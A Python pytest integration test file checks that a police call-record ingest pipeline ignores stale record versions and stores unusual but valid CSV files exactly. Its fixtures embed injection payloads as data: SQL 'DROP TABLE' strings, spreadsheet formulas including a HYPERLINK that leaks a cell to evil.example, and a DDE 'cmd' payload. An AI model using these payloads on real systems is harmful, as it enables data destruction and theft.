"""Valid-but-unusual files of the bad-input catalogue: loaded untouched (zero quarantine,
values round-trip exactly), and stale record versions ignored. Builders:
tests/support/bad_inputs.py.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from support.bad_inputs import (
    BASE_DAY,
    CANARY,
    FIELDS,
    NARRATIVE_CANARY,
    Env,
    assert_no_leak,
    assert_stored_exactly,
    baseline_rows,
    call_at,
    charged_row,
    connect,
    declined_row,
    deliver,
    extract_files,
    generated_at,
    given_row,
    load,
    manifest_doc,
    not_asked_row,
    quarantine,
    render,
    snapshot,
    write_rows,
)

from upstream.contract import REQUIRED_COLUMNS
from upstream.ingest import LoadResult
from upstream.settings import Settings

pytestmark = pytest.mark.integration

# ---------------------------------------------------------------------------------------------
# A stale record_version


def test_stale_record_versions_are_ignored(env: Env, baseline: LoadResult) -> None:
    """v2 loaded on BASE_DAY; a later day brings v1 (older) and another v2 (equal): both stay
    in call_version, neither becomes current, both count as stale, contact stays."""
    d = date(2024, 6, 15)
    old = [r for r in baseline_rows() if r["incident_id"].startswith("WPS-STALE-")]
    stale = [declined_row(d, 1, incident_id="WPS-STALE-1", record_version=1, patrol_zone="Z9"),
             charged_row(d, 2, incident_id="WPS-STALE-2", record_version=2, charges_laid=3)]
    fresh = [declined_row(d, 3), given_row(d, 4, "Linh", "Nguyễn")]
    write_rows(env.settings, d, stale + fresh)
    result = load(env, d)
    assert (result.outcome, result.rows_loaded, result.rows_stale, result.rows_quarantined) \
        == ("loaded", 4, 2, 0)
    with connect(env) as conn:
        assert_stored_exactly(conn, old, baseline.file_id, BASE_DAY)  # incl. STALE-1's contact
        assert_stored_exactly(conn, fresh, result.file_id, d)
        versions = conn.execute(
            "SELECT incident_id, record_version, file_id FROM core.call_version"
            " WHERE incident_id LIKE %s ORDER BY 1, 2, 3", ("WPS-STALE-%",)).fetchall()
        assert [tuple(v.values()) for v in versions] == [
            ("WPS-STALE-1", 1, result.file_id), ("WPS-STALE-1", 2, baseline.file_id),
            ("WPS-STALE-2", 2, baseline.file_id), ("WPS-STALE-2", 2, result.file_id)]
        [file] = extract_files(conn, d)
        assert (file["status"], file["rows_stale"]) == ("loaded", 2)
        assert_no_leak(env, conn)


# ---------------------------------------------------------------------------------------------
# Valid but unusual files: loaded untouched

UNUSUAL_NAMES = [
    ("Zoë", "Côté"), ("芳", "李"), ("محمد", "حداد"), ("Thảo", "Nguyễn"), ("प्रिया", "Singh"),
    ("Ольга", "Шевченко"), ("Seán", "O'Brien"), ("Marie-Ève", "Bélanger-Lévesque"),
    ("Robert'); DROP TABLE core.call;--", "Tables"), ('=HYPERLINK("http://x.example","y")', "+SUM(A1)"),
    ("@cmd", "-2+3"), ("Ana Sofía", "Núñez\u200d"),
]
UNUSUAL_NOTES = [
    'say you are calling from "the clinic", then hang up',
    "call after 6pm,\npartner works days",
    "line one\r\nline two, with \"quotes\"\nand a trailing newline\n",
    "'; DROP TABLE core.call; --",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "tab\there; emoji 🙂; RTL \u202eevil\u202c; backslash \\N and \\.",
    "", None, "  leading and trailing spaces  ", "NULL",
]


def unusual_rows(d: date) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for i, (given, family) in enumerate(UNUSUAL_NAMES):
        notes = UNUSUAL_NOTES[i % len(UNUSUAL_NOTES)]
        rows.append(given_row(
            d, 10 + i, given, family, victim_safe_contact_notes=notes or None,
            victim_email=None if i % 3 == 0 else f"person{i}@example.org",
            victim_preferred_contact="email" if i % 3 else "text",
            victim_language=None if i % 4 == 0 else "ar",
            victim_postal_code=None if i % 5 == 0 else "N8X 3Y7",
            narrative=f"{NARRATIVE_CANARY}, {notes or ''}\n\"; DROP TABLE core.call; --",
        ))
    # Timestamps in other ISO 8601 spellings: Z, +05:30, basic-format offset, fractions, space.
    call = call_at(d, 40)
    rows.append(declined_row(
        d, 40, call_received_at=call.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        cleared_at=(call + timedelta(hours=2)).astimezone(ZoneInfo("Asia/Kolkata")).isoformat(),
        consent_recorded_at=(call + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.123456%z")))
    rows.append(charged_row(
        d, 41, call_received_at=call.strftime("%Y-%m-%d %H:%M%z")[:-2],  # '... 06:00-04'
        cleared_at=(call + timedelta(minutes=90)).astimezone(UTC).isoformat(timespec="milliseconds")))
    rows.append(not_asked_row(d, 42, narrative=f"=cmd|' /C calc'!A0 {NARRATIVE_CANARY}",
                              patrol_zone="Z-ÉST", responding_officer_id="W 1037/ß"))
    return rows


@dataclass(frozen=True)
class Unusual:
    id: str
    rows: Callable[[date], list[dict[str, Any]]]
    write: Callable[[Settings, date, list[dict[str, Any]]], None]
    unknown_columns: tuple[str, ...] = ()
    bug: str | None = None


def _write_raw(make: Callable[[list[dict[str, Any]]], bytes], **manifest: Any):
    return lambda s, d, rows: deliver(s, d, make(rows), len(rows), **manifest)


def _quirky_manifest(s: Settings, d: date, rows: list[dict[str, Any]]) -> None:
    """Quoted header names, no newline after the last record, and a manifest with a BOM, an
    upper-case sha256, an extra key and generated_at in UTC ('Z')."""
    data = render(rows, quoting=csv.QUOTE_MINIMAL)
    header, rest = data.split(b"\n", 1)
    data = b",".join(b'"' + n + b'"' for n in header.split(b",")) + b"\n" + rest.rstrip(b"\n")
    doc = manifest_doc(d, data, len(rows), exporter="RMS 9.2 (nightly)",
                       generated_at=generated_at(d).astimezone(UTC).isoformat().replace(
                           "+00:00", "Z"))
    doc["sha256"] = doc["sha256"].upper()
    deliver(s, d, data, len(rows),
            manifest_bytes=b"\xef\xbb\xbf" + json.dumps(doc, ensure_ascii=False).encode())


EXTRA = ("officer_notes", "row_number", "victim_sin")


def _with_extras(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [r | {"officer_notes": f"{NARRATIVE_CANARY}, see report", "row_number": "x",
                 "victim_sin": f"{CANARY} 046 454 286"} for r in rows]


UNUSUAL: list[Unusual] = [
    Unusual("utf8_bom", unusual_rows, lambda s, d, rows: write_rows(s, d, rows, bom=True)),
    Unusual("crlf_line_ends", unusual_rows,
            lambda s, d, rows: write_rows(s, d, rows, line_ending="\r\n")),
    Unusual("excel_style_bom_and_crlf", unusual_rows,
            lambda s, d, rows: write_rows(s, d, rows, bom=True, line_ending="\r\n")),
    Unusual("quoted_line_breaks_commas_quotes_scripts_sql_formulas_offsets", unusual_rows,
            write_rows),
    Unusual("reordered_columns", unusual_rows,
            lambda s, d, rows: write_rows(s, d, rows, columns=FIELDS[::-1])),
    Unusual("unknown_extra_columns", lambda d: _with_extras(unusual_rows(d)),
            lambda s, d, rows: write_rows(
                s, d, rows, columns=(EXTRA[0], *FIELDS[:10], EXTRA[1], *FIELDS[10:], EXTRA[2])),
            unknown_columns=EXTRA),
    Unusual("header_only_day", lambda d: [], write_rows),
    Unusual("optional_columns_absent",
            lambda d: [{c: v for c, v in r.items() if c in REQUIRED_COLUMNS}
                       for r in (not_asked_row(d, 1), charged_row(d, 2),
                                 not_asked_row(d, 3, clearance_status="no_offence"))],
            lambda s, d, rows: write_rows(s, d, rows, columns=REQUIRED_COLUMNS)),
    Unusual("quoted_header_no_final_newline_quirky_manifest", unusual_rows, _quirky_manifest),
    Unusual("every_field_quoted", unusual_rows,
            _write_raw(lambda rows: render(rows, quoting=csv.QUOTE_ALL))),
]


@pytest.mark.parametrize(
    "case",
    [pytest.param(c, id=c.id, marks=[pytest.mark.xfail(strict=True, reason=f"bug: {c.bug}")]
                  if c.bug else []) for c in UNUSUAL])
def test_valid_unusual_file_loads_untouched(env: Env, baseline: LoadResult, case: Unusual) -> None:
    d = date(2024, 8, 1) + timedelta(days=UNUSUAL.index(case))
    rows = case.rows(d)
    case.write(env.settings, d, rows)
    with connect(env) as conn:
        before = snapshot(conn)
    result = load(env, d)
    assert (result.outcome, result.rows_in_file, result.rows_loaded, result.rows_quarantined,
            result.rows_stale) == ("loaded", len(rows), len(rows), 0, 0), result
    assert result.quarantine_by_rule == {}
    assert result.unknown_columns == list(case.unknown_columns)
    with connect(env) as conn:
        [file] = extract_files(conn, d)
        assert (file["status"], file["reason"], file["unknown_columns"]) == \
            ("loaded", None, list(case.unknown_columns))
        assert quarantine(conn, result.file_id) == set()
        if rows:
            assert_stored_exactly(conn, rows, result.file_id, d)
        else:
            assert snapshot(conn) == before
        assert_no_leak(env, conn)
